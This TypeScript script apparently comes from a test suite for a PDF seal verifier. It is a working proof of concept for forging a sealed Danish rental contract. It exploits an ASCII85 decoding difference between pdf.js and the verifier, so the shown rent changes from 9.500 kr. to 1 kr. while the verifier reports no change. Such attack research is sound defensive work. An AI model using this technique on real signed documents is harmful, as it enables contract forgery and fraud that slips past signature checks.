// a20: pdf.js reads the bytes 0x00 and 0x0C inside ASCII85Decode data as digits (its isWhiteSpace is space, tab, CR
// and LF only); sealcheck's decoder, poppler and PDFium skip them as white space. sealcheck compares a changed
// stream by its decoded data when the raw bytes differ (compare.ts sameStreamData), so an update that rewrites a
// sealed ASCII85 content stream with such bytes inserted is "no change" to sealcheck while pdf.js decodes other
// content. The attacker writes the original (its page content is ASCII85-encoded, which a merger copies as it is):
// a comment line whose bytes are chosen so that, read one digit shifted (one 0x00 inserted before it, four after
// it), pdf.js decodes "\n(1 kr. pr. maaned) Tj 3 Tr %" there: the rent drawn as 1 kr., the sealed "9.500 kr."
// after it drawn invisible (3 Tr).
//   npx tsx scripts/attack-s15/a85-pdfjs.ts <honest|shifted>
// honest: the same update with the sealed raw bytes (control); shifted: the 0x00 bytes inserted; framed: "<~" put
// before the sealed data (sealcheck skips Adobe's framing; pdf.js reads "<" as a digit and "~" as the end).
import { PDFDocument, PDFName, StandardFonts } from "pdf-lib";
import { mkdirSync, writeFileSync } from "node:fs";
import { pki, save, show, tool, verify, work } from "../attack36/lib.js";
import { buildWorkflowEvidence, createWorkflowToken, evidenceAttachments } from "../generator/index.js";
import { preparePades, sealPrepared } from "../generator/pdf.js";
import { pdfiumAndPdfjs, renderPage1 } from "../attack-s11/lib.js";
import { parsePdf, walkPages } from "../../src/input/pdf/index.js";
import { NumberAllocator, appendUpdate, int, serialize, withEntry } from "../../src/augment/writer.js";
import { wholeSource } from "../../src/input/source.js";
import { resolveLimits } from "../../src/limits.js";

const mode = process.argv[2] ?? "shifted";
if (!["honest", "shifted", "framed", "two-honest", "two-framed"].includes(mode)) throw new Error("usage: <honest|shifted|framed|two-honest|two-framed>");
// two-*: page 1 has two content streams: the first draws "Husleje: 1 kr." (plain), the second (ASCII85) a white box
// over it and "Husleje: 9.500 kr." (what everyone sees at sealing); two-framed puts "<~" before the second's data,
// after which every reader decodes it as nothing and shows the first: "1 kr."; sealcheck skips "<~", sees no change.
const TWO = mode.startsWith("two-");

const P85 = 85 ** 4;
/** Base-85 digits (five, most significant first) of a 32-bit value. */
const digits = (v: number): number[] => [4, 3, 2, 1, 0].map((k) => Math.floor(v / 85 ** k) % 85);
const value = (d: readonly number[]): number => d.reduce((t, x) => t * 85 + x, 0);
const be = (v: number): number[] => [(v >>> 24) & 0xff, (v >>> 16) & 0xff, (v >>> 8) & 0xff, v & 0xff];
const word = (b: readonly number[], i: number): number => ((b[i]! << 24) | (b[i + 1]! << 16) | (b[i + 2]! << 8) | b[i + 3]!) >>> 0;
/** ASCII85 of bytes whose length is a multiple of 4, no "z". */
const a85 = (b: readonly number[]): number[] => {
  const out: number[] = [];
  for (let i = 0; i < b.length; i += 4) out.push(...digits(word(b, i)).map((d) => d + 0x21));
  return out;
};
const latin = (s: string): number[] => [...Buffer.from(s, "latin1")];

/**
 * The window: E-group values (4 bytes each, in a comment: no CR or LF) such that pdf.js, reading one inserted 0x00
 * (digit -33) before them and four after the last one's last digit, decodes `want` between a leading and a
 * trailing 4-byte chunk of junk. Null when some E-group is no valid comment text (the caller pads `want` otherwise).
 */
function solve(want: number[], rnd: () => number): { window: number[]; firstJunk: number[]; lastJunk: number[] } | null {
  const V = [];
  for (let i = 0; i < want.length; i += 4) V.push(word(want, i));
  const m = V.length;
  const D = V.map(digits); // D[i][0] is the previous E-group's last digit, D[i][1..4] this E-group's first four
  const groups: number[][] = [];
  // E-group 0: four free digits (pdf.js reads them after the inserted 0x00), then D[0][0].
  for (let tries = 0; ; tries++) {
    if (tries > 2000) return null;
    const free = [0, 1, 2, 3].map(() => Math.floor(rnd() * 85));
    const g = [...free, D[0]![0]!];
    const v = value(g);
    const junk = be((-33 * P85 + value([0, ...free])) >>> 0);
    if (v < 2 ** 32 && !be(v).some((x) => x === 10 || x === 13) && !junk.some((x) => x === 10 || x === 13)) {
      groups.push(g);
      break;
    }
  }
  for (let i = 0; i < m; i++) {
    const last = i + 1 < m ? [D[i + 1]![0]!] : null;
    const g = [...D[i]!.slice(1), ...(last ?? [0])];
    if (last) {
      const v = value(g);
      if (v >= 2 ** 32 || be(v).some((x) => x === 10 || x === 13)) return null;
      groups.push(g);
    } else {
      // The last E-group's last digit is free: pdf.js reads it with the four inserted 0x00 (junk in its comment).
      let ok = false;
      for (let d = 0; d < 85 && !ok; d++) {
        g[4] = d;
        const v = value(g);
        const junk = be((d * P85 - 33 * (85 ** 3 + 85 ** 2 + 85 + 1)) >>> 0);
        ok = v < 2 ** 32 && !be(v).some((x) => x === 10 || x === 13) && !junk.some((x) => x === 10 || x === 13);
      }
      if (!ok) return null;
      groups.push(g);
    }
  }
  const window = groups.flatMap((g) => be(value(g)));
  const firstJunk = be((-33 * P85 + value([0, ...groups[0]!.slice(0, 4)])) >>> 0);
  const lastJunk = be((groups.at(-1)![4]! * P85 - 33 * (85 ** 3 + 85 ** 2 + 85 + 1)) >>> 0);
  return { window, firstJunk, lastJunk };
}

// A seeded generator: the same file each run.
let seed = 20;
const rnd = () => ((seed = (seed * 1103515245 + 12345) % 2 ** 31), seed / 2 ** 31);

const head = latin("BT /F1 12 Tf 60 716 Td (Husleje: ) Tj\n%");
const pad = (4 - (head.length % 4)) % 4;
const prefix = [...head, ...latin(" ".repeat(pad))]; // the comment starts; the window starts on a 4-byte boundary
let solved: ReturnType<typeof solve> = null;
let want: number[] = [];
for (let spaces = 0; spaces < 64 && !solved; spaces++) {
  // pdf.js's text in the window: end the comment, draw the rent as 1 kr., hide what follows, comment out the junk.
  const text = `\n(1 kr. pr. maaned) Tj${" ".repeat(1 + (spaces % 8))}3 Tr${" ".repeat(1 + Math.floor(spaces / 8))}%`;
  const padded = text + " ".repeat((4 - (text.length % 4)) % 4);
  want = latin(padded);
  solved = solve(want, rnd);
}
if (!solved) throw new Error("no window found");
const tail = latin("\n(9.500 kr. pr. maaned) Tj 0 Tr ET\n");
const tailPadded = [...tail, ...latin(" ".repeat((4 - (tail.length % 4)) % 4))];
const S = [...prefix, ...solved.window, ...tailPadded];
const E = a85(S);
// R1: one 0x00 before the window's first digit, four after its last digit.
const w0 = (prefix.length / 4) * 5;
const w1 = w0 + (solved.window.length / 4) * 5;
const R0 = [...E, ...latin("~>")];
const R1 = [...E.slice(0, w0), 0x00, ...E.slice(w0, w1), 0x00, 0x00, 0x00, 0x00, ...E.slice(w1), ...latin("~>")];
console.log(`content (sealcheck, poppler, PDFium): ${JSON.stringify(Buffer.from(S).toString("latin1"))}`);
console.log(
  `content (pdf.js after the update): ${JSON.stringify(Buffer.from([...prefix, ...solved.firstJunk, ...want, ...solved.lastJunk, ...tailPadded]).toString("latin1"))}`,
);

async function original(): Promise<Uint8Array> {
  const doc = await PDFDocument.create({ updateMetadata: false });
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([595.2756, 841.8898]);
  page.node.set(PDFName.of("Resources"), doc.context.obj({ Font: { F1: font.ref } }));
  if (TWO) {
    const under = doc.context.register(doc.context.stream("BT /F1 12 Tf 60 716 Td (Husleje: 1 kr. pr. maaned) Tj ET\n"));
    const overText = latin("1 g 55 705 320 28 re f 0 g BT /F1 12 Tf 60 716 Td (Husleje: 9.500 kr. pr. maaned) Tj ET\n");
    const over = doc.context.register(
      doc.context.stream(Uint8Array.from([...a85([...overText, ...latin(" ".repeat((4 - (overText.length % 4)) % 4))]), ...latin("~>")]), {
        Filter: "ASCII85Decode",
      }),
    );
    page.node.set(PDFName.of("Contents"), doc.context.obj([under, over]));
  } else {
    const stream = doc.context.stream(Uint8Array.from(R0), { Filter: "ASCII85Decode" });
    page.node.set(PDFName.of("Contents"), doc.context.register(stream));
  }
  return doc.save({ useObjectStreams: false });
}

const Pk = pki();
const base = await buildWorkflowEvidence({ pki: Pk });
const documents = [{ title: "Lejekontrakt", bytes: await original() }, ...base.originals.slice(1).map((o) => ({ title: o.title, bytes: o.bytes }))];
const e = { ...base, padesToken: await createWorkflowToken({ signer: Pk.tokenSigner, documents, personalData: false }) };
const prepared = await preparePades({ originals: documents.map((d) => d.bytes), attachments: evidenceAttachments(e) });
const sealed = sealPrepared(prepared, Pk);

// The update: page 1's content stream again, its dictionary as sealed (but /Length), its raw data R1 (or R0).
const doc = parsePdf(wholeSource(sealed), resolveLimits());
const view = doc.latest();
const page1 = walkPages(view)[0]!;
if (page1.contents.length !== (TWO ? 2 : 1)) throw new Error(`page 1 has ${page1.contents.length} content streams`);
const contents = page1.contents.at(-1)!;
const obj = view.object(contents);
if (obj?.value.kind !== "stream") throw new Error("page 1 /Contents is not a stream");
// framed: the sealed data with Adobe's "<~" framing put before it, which sealcheck skips and pdf.js reads as data.
const sealedRaw = [...view.rawStreamData(obj.value)];
const data = Uint8Array.from(mode === "shifted" ? R1 : mode.endsWith("framed") ? [...latin("<~"), ...sealedRaw] : sealedRaw);
const dictText = serialize(withEntry(obj.value.dict, "Length", int(data.length)));
const raw = `${dictText}\nstream\n${Buffer.from(data).toString("latin1")}\nendstream`;
const updated = appendUpdate(doc, [{ num: contents.num, gen: contents.gen, raw }], new NumberAllocator(doc)).bytes;

const dir = work(`s15-a85-${mode}`);
mkdirSync(`${dir}/originals`);
for (const d of documents) writeFileSync(`${dir}/originals/${d.title}.pdf`, d.bytes);
save(dir, "sealed.pdf", sealed);
const file = save(dir, "archive.pdf", updated);
console.log(`wrote ${file} (sealed: ${dir}/sealed.pdf; page 1 /Contents ${contents.num} ${contents.gen} R, ${obj.value.dict.entries.size} keys)`);
show(`a85 ${mode}`, verify(file, [], `${dir}/originals`));
console.log(`== pdftotext: ${JSON.stringify(tool("pdftotext", ["-l", "1", file, "-"]).split("\n").filter(Boolean).slice(0, 3).join(" | "))}`);
for (const l of pdfiumAndPdfjs(file, 120)) console.log(`== ${l}`);
console.log(`== render: ${renderPage1(file, `${dir}/page1`)}`);
